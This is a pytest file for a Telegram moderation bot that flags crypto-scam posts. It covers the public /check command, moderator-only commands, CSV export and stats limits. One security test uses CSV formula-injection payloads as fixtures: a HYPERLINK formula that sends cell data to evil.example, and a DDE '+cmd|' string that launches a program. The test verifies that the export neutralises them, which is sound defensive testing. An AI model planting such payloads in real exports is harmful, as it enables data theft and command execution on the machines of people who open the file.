"""Commands: /check for anyone, moderator commands for moderators only, the command menu."""

import csv
import io
import threading

from click.testing import CliRunner

from bot.cli import cli
from bot.commands import MODERATOR_COMMANDS, PUBLIC_COMMANDS, register_commands
from bot.flag_export import EXPORT_COLUMNS, export_rows, write_export
from bot.storage import Storage
from tests.conftest import LINK_BAIT, MODERATOR_CHAT_ID, TEST_TOKEN, outside_code
from tests.fakes import updates as U
from tests.fakes.classifier import FakeClassifier

MODS = {"id": MODERATOR_CHAT_ID, "type": "supergroup", "title": "Mods"}


def last_reply(harness) -> str:
    return harness.api.calls_to("sendMessage")[-1].params["text"]


async def test_check_text_reply_and_forward(harness):
    await harness.send(U.private_message(1, "/check join the presale <now>", user=U.STRANGER))
    assert "ICO / token sale" in last_reply(harness) and "word: presale" in last_reply(harness)
    replied = {"message_id": 5, "date": 1, "chat": U.GROUP, "text": "VIP signals here"}
    await harness.send(U.command("/check", U.GROUP, user=U.STRANGER, reply_to_message=replied))
    assert "Trading service" in last_reply(harness)
    forward = {"type": "channel", "date": 1, "message_id": 9, "chat": U.CHANNEL}
    await harness.send(U.private_message(2, "nothing to see", user=U.STRANGER, forward_origin=forward))
    assert "Benign" in last_reply(harness)
    await harness.send(U.private_message(3, "/check", user=U.STRANGER))
    assert "Send /check followed by a text" in last_reply(harness)


async def test_moderator_commands_refuse_others(harness):
    for name in ("stats", "recent", "pending", "chats", "export", "model", "reload"):
        await harness.send(U.private_message(1, f"/{name}", user=U.STRANGER))
        assert last_reply(harness) == "Sorry, that command is for the moderators only."
    assert harness.api.calls_to("sendDocument") == []


async def test_stats_recent_chats_pending(harness):
    await harness.send(U.channel_post(1, "Presale live"))
    await harness.send(U.group_message(2, "maybe-token soon"))
    await harness.send(U.command("/stats 30", MODS))
    assert "Last 30 days" in last_reply(harness) and "ico 2" in last_reply(harness)
    await harness.send(U.command("/recent 1", MODS))
    assert last_reply(harness).startswith("#2 ico p=0.55")
    await harness.send(U.command("/chats", MODS))
    assert "<code>Crypto Gems</code> @cryptogems" in last_reply(harness) and "Traders chat" in last_reply(harness)
    await harness.send(U.command("/pending", MODS))
    listing = harness.api.calls_to("sendMessage")[-2:]
    assert all(c.params["reply_markup"]["inline_keyboard"] for c in listing)


def cli_csv(storage) -> str:
    """What `compliance-bot export` writes for this database."""
    out = io.StringIO()
    write_export(export_rows(storage), out, "csv")
    return out.getvalue()


async def test_export_sends_the_same_csv_as_the_cli(harness, tmp_path, monkeypatch):
    await harness.send(U.channel_post(1, 'Presale live, with "quotes", and, commas'))
    await harness.send(U.group_message(2, "VIP signals, 收U 预售"))
    await harness.send(U.channel_post(3, "nice weather"))  # benign: no flag
    second = harness.storage.all_flags()[1]
    harness.storage.record_review(second["alert_id"], "false_positive", None, 111, "Mia Mod")
    threads = []

    def spy(storage):
        threads.append(threading.current_thread())
        return export_rows(storage)

    monkeypatch.setattr("bot.commands.export_rows", spy)
    await harness.send(U.command("/export", MODS))
    [doc] = harness.api.calls_to("sendDocument")
    filename, content = next(iter(doc.files.values()))
    assert filename.endswith(".csv") and content.decode() == cli_csv(harness.storage)
    assert threads and threads[0] is not threading.main_thread()  # read off the event loop
    result = CliRunner().invoke(
        cli,
        ["export", "--db", str(tmp_path / "bot.db"), "-o", str(tmp_path / "cli.csv")],
        env={"TELEGRAM_BOT_TOKEN": TEST_TOKEN},
    )
    assert result.exit_code == 0, result.output
    assert (tmp_path / "cli.csv").read_bytes() == content
    reader = csv.DictReader(io.StringIO(content.decode()))
    rows = list(reader)
    assert reader.fieldnames == EXPORT_COLUMNS and len(rows) == 2
    assert rows[0]["link"] == "https://t.me/cryptogems/1" and rows[0]["text"].endswith("and, commas")
    assert (rows[1]["status"], rows[1]["reviewed_by"], rows[1]["reasons"]) == (
        "false_positive",
        "Mia Mod (111)",
        "vip signals; vip",
    )


async def test_export_from_an_in_memory_database(bot_factory):
    harness = await bot_factory(storage=Storage.open(":memory:"))
    await harness.send(U.channel_post(1, "Airdrop now"))
    await harness.send(U.command("/export", MODS))
    [doc] = harness.api.calls_to("sendDocument")
    content = next(iter(doc.files.values()))[1].decode()
    assert content == cli_csv(harness.storage) and "Airdrop now" in content


async def test_export_over_telegrams_limit_points_to_the_cli(harness, monkeypatch):
    await harness.send(U.channel_post(1, "Presale 预售 live"))  # multi-byte: the limit is in bytes, not characters
    size = len(cli_csv(harness.storage).encode("utf-8"))
    monkeypatch.setattr("bot.commands.MAX_EXPORT_BYTES", size)
    await harness.send(U.command("/export", MODS))
    assert len(harness.api.calls_to("sendDocument")) == 1  # exactly at the limit: sent
    monkeypatch.setattr("bot.commands.MAX_EXPORT_BYTES", size - 1)
    await harness.send(U.command("/export", MODS))
    assert len(harness.api.calls_to("sendDocument")) == 1
    reply = last_reply(harness)
    assert reply.startswith("The export is larger than the") and "Telegram lets a bot send" in reply
    assert "compliance-bot export -o flags.csv" in reply and "compliance-bot export --help" in reply


async def test_model_and_reload(bot_factory):
    new = FakeClassifier(version="fake-2")
    harness = await bot_factory(loader=lambda: new)
    await harness.send(U.command("/model", MODS))
    assert "fake-1" in last_reply(harness) and "macro_f1" in last_reply(harness)
    await harness.send(U.command("/reload", MODS))
    assert last_reply(harness) == "Model reloaded: fake-1 → fake-2"
    assert harness.services.classifier is new


async def test_failed_reload_keeps_the_running_model(bot_factory):
    def broken():
        raise RuntimeError("model file is corrupt")

    harness = await bot_factory(loader=broken)
    await harness.send(U.command("/reload", MODS))
    assert "Reload failed, still using fake-1: model file is corrupt" == last_reply(harness)
    assert harness.services.classifier.version == "fake-1"


async def test_commands_are_registered(harness):
    await register_commands(harness.app.bot, MODERATOR_CHAT_ID)
    default, moderators = harness.api.calls_to("setMyCommands")
    assert [c["command"] for c in default.params["commands"]] == [c.command for c in PUBLIC_COMMANDS]
    assert len(moderators.params["commands"]) == len(PUBLIC_COMMANDS + MODERATOR_COMMANDS)
    assert moderators.params["scope"] == {"type": "chat", "chat_id": MODERATOR_CHAT_ID}


async def test_moderator_commands_only_in_the_moderators_chat_or_in_private(harness, caplog):
    await harness.send(U.channel_post(1, "Presale live"))
    for name in ("stats", "recent", "pending", "chats", "export", "model", "reload"):
        await harness.send(U.command(f"/{name}", U.GROUP, user=U.MODERATOR))  # a watched, public group
        assert last_reply(harness) == "Moderator commands work only in the moderators' chat or in private."
    assert harness.api.calls_to("sendDocument") == []
    assert "refused /export by moderator 111 in chat -1005555555555" in caplog.text
    await harness.send(U.private_message(2, "/export"))  # a moderator's private chat
    await harness.send(U.command("/export", MODS))
    assert len(harness.api.calls_to("sendDocument")) == 2


async def test_chats_fits_many_chats_into_messages_within_telegram_limits(harness):
    for i in range(130):
        harness.storage.upsert_chat(
            -1003000000000 - i,
            "supergroup",
            f"Chat {i:03d} " + "долгое название " * 5,
            f"chat_{i:03d}_" + "x" * 20,
            "watched",
        )
    await harness.send(U.command("/chats", MODS))
    replies = harness.api.calls_to("sendMessage", ok_only=False)
    assert len(replies) > 1 and all(c.status == 200 for c in replies)
    text = "\n".join(c.params["text"] for c in replies)
    assert all(f"Chat {i:03d}" in text for i in range(100)) and "Chat 100" not in text
    assert text.endswith("… and 30 more chats")


async def test_chat_titles_in_chats_and_recent_cannot_become_links(harness):
    await harness.send(
        U.channel_post(1, "Presale live", chat={"id": -1004444444444, "type": "channel", "title": LINK_BAIT})
    )
    for command in ("/chats", "/recent"):
        await harness.send(U.command(command, MODS))
        assert f"<code>{LINK_BAIT}</code>" in last_reply(harness)
        assert "t.me/scam" not in outside_code(last_reply(harness)) and "@scam_bot" not in outside_code(
            last_reply(harness)
        )


async def test_stats_renders_the_figures_the_digest_and_the_cli_show(harness, monkeypatch):
    from tests.test_digest import fixed_figures

    periods = fixed_figures(monkeypatch)
    await harness.send(U.command("/stats 30", MODS))
    assert last_reply(harness) == (
        "<b>Last 30 days</b>\nPosts scanned: 41\nFlags by label: ico 4, trading_service 3\n"
        "Flags by status: confirmed 2, pending 5"
    )
    [(start, end)] = periods
    assert end - start == 30 * 86400


# -- finding 1: one row /export cannot render stops nothing --------------------------------------------------


async def test_export_sends_every_row_when_a_stored_date_or_score_cannot_be_rendered(bot_factory, tmp_path):
    from tests.test_flag_export import UNRENDERABLE_DATES, unrenderable_db

    harness = await bot_factory(storage=unrenderable_db(tmp_path / "old.db"))
    await harness.send(U.command("/export", MODS))
    [doc] = harness.api.calls_to("sendDocument")
    content = next(iter(doc.files.values()))[1].decode()
    assert content == cli_csv(harness.storage)
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [int(r["message_id"]) for r in rows] == list(range(1, 11))
    assert [r["date"] for r in rows if int(r["message_id"]) in UNRENDERABLE_DATES] == [""] * len(UNRENDERABLE_DATES)
    assert (rows[0]["reviewed_at"], rows[7]["score"], rows[8]["score"], rows[9]["reasons"]) == ("", "", "", "")
    assert rows[9]["text"] == "Presale number 10"


# -- finding 5: CSV formula injection through /export --------------------------------------------------------


async def test_export_neutralises_cells_that_begin_like_a_formula(harness, tmp_path):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Gems")'
    await harness.send(
        U.channel_post(1, "+cmd|' /C calc'!A0 presale", chat={"id": -1004444444444, "type": "channel", "title": title})
    )
    await harness.send(U.channel_post(2, "-2+3 airdrop\t@SUM(1)"))
    [first, second] = harness.storage.all_flags()
    harness.storage.record_review(first["alert_id"], "confirm", None, 111, "@evil")
    await harness.send(U.command("/export", MODS))
    [doc] = harness.api.calls_to("sendDocument")
    content = next(iter(doc.files.values()))[1].decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    assert (rows[0]["chat_title"], rows[0]["text"], rows[0]["reviewed_by"]) == (
        f"'{title}",
        "'+cmd|' /C calc'!A0 presale",
        "'@evil (111)",
    )
    assert (rows[1]["text"], rows[1]["chat_title"], rows[1]["chat_id"]) == (
        "'-2+3 airdrop\t@SUM(1)",
        "Crypto Gems",
        "-1001234567890",
    )
    assert content == cli_csv(harness.storage)  # the same file as `compliance-bot export`
    # What is stored stays verbatim.
    assert harness.storage.all_flags()[0]["chat_title"] == title


# -- finding 6: /stats takes the same bound as `compliance-bot stats` -----------------------------------------


async def test_stats_refuses_a_period_out_of_range_with_a_clear_message(harness):
    from bot.commands import MAX_STATS_DAYS

    await harness.send(U.channel_post(1, "Presale live"))
    refusal = f"/stats takes a whole number of days from 1 to {MAX_STATS_DAYS}, e.g. /stats 30."
    for arg in ("1e308", "inf", "-inf", "nan", "1000000", "3651", "0", "-5", "abc", "7.5", "9" * 5000):
        await harness.send(U.command(f"/stats {arg}", MODS))
        assert last_reply(harness) == refusal, arg
    await harness.send(U.command(f"/stats {MAX_STATS_DAYS}", MODS))
    assert last_reply(harness).startswith(f"<b>Last {MAX_STATS_DAYS} days</b>") and "ico 1" in last_reply(harness)
    await harness.send(U.command("/stats", MODS))
    assert last_reply(harness).startswith("<b>Last 7 days</b>")
    await harness.send(U.command("/stats 1", MODS))
    assert last_reply(harness).startswith("<b>Last 1 days</b>")
